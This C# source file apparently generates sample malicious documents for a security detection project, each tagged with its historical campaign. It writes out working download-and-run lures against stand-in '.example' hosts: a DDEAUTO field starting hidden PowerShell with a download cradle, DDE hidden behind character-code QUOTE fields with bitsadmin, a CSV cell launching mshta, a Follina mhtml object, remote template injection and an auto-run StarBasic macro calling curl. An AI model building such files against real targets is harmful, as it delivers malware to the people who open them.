using System.Text;
using Lurewatch.Samples.Office;

namespace Lurewatch.Samples.Documents;

/// <summary>Documents without VBA that fetch or start something: data exchange, templates, OpenDocument.</summary>
internal static class LinkDocuments
{
    public static IEnumerable<DocumentSample> All() => [DdeField(), DdeQuoted(), DdeCsv(), Follina(), FlatTemplate(), StarBasic()];

    private static DocumentSample DdeField()
    {
        const string url = "http://dde.example/update.ps1";
        var field = OfficePackage.Field(" DDEAU", "TO c:\\\\Windows\\\\System32\\\\cmd.exe \"/k power", $"shell -NoP -sta -NonI -W Hidden IEX(New-Object Net.WebClient).DownloadString('{url}')\" \"invoice.docx\" ");
        return new("dde-field.docx", "October 2017 to 2018, FIN7, Hancitor, Locky: a DDEAUTO field cut over runs starts PowerShell.", OfficePackage.Word($"<w:p>{field}</w:p>").ToBytes(), url);
    }

    private static DocumentSample DdeQuoted()
    {
        const string url = "http://quoted.example/a.exe";
        static string Quote(string text) => OfficePackage.Field("QUOTE " + string.Join(' ', text.Select(c => (int)c)));
        var fields = OfficePackage.Field("SET c ", Quote("cmd")) + OfficePackage.Field("SET d ", Quote($"/c bitsadmin /transfer j {url} %TEMP%/a.exe")) + OfficePackage.Field("DDE ", OfficePackage.Field("REF c"), " ", OfficePackage.Field("REF d"));
        return new("dde-quoted.docx", "2018: the words of the DDE field are spelled as character codes in QUOTE fields and put together with SET and REF.", OfficePackage.Word($"<w:p>{fields}</w:p>").ToBytes(), url);
    }

    private static DocumentSample DdeCsv()
    {
        const string url = "http://csv.example/p.hta";
        return new("bank-list.csv", "2020, BazarLoader: a text of values with one cell that starts a program.", Encoding.UTF8.GetBytes($"id,name,total\r\n1,Meier,12.50\r\n2,Huber,=cmd|'/c mshta {url}'!A0\r\n"), url);
    }

    private static DocumentSample Follina()
    {
        const string url = "https://follina.example/RDF842l.html";
        var bytes = OfficePackage.Word(OfficePackage.Paragraph("Loading…")).Relate("word/document.xml", "oleObject", $"mhtml:{url}!x-usc:{url}", external: true).ToBytes();
        return new("follina.docx", "2022, CVE-2022-30190 and the earlier CVE-2021-40444: an external object by the mhtml handler.", bytes, url);
    }

    private static DocumentSample FlatTemplate()
    {
        const string url = "https://template.example/normal.dotm";
        var bytes = OfficePackage.Word(OfficePackage.Paragraph("Please wait")).Xml("word/settings.xml", "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml")
            .Relate("word/document.xml", "settings", "settings.xml").Relate("word/settings.xml", "attachedTemplate", url, external: true).ToFlat();
        return new("flat-template.xml", "2020 to 2022: a package as one XML file, which Word opens, loads its template from elsewhere.", bytes, url);
    }

    private static DocumentSample StarBasic()
    {
        const string url = "http://office.example/run.vbs";
        var bytes = OpenDocument.Text("<text:p>This document was made with a newer version.</text:p>", [("Module1", $"Sub OpenDoc\n  Dim p As String\n  p = \"cmd /c curl \" & \"{url}\" & \" -o %TEMP%\\r.vbs\"\n  Shell(p, 0)\nEnd Sub\n")], "Module1.OpenDoc");
        return new("basic.odt", "2022: OpenDocument texts in hotel mails; Basic is bound to opening.", bytes, url);
    }
}
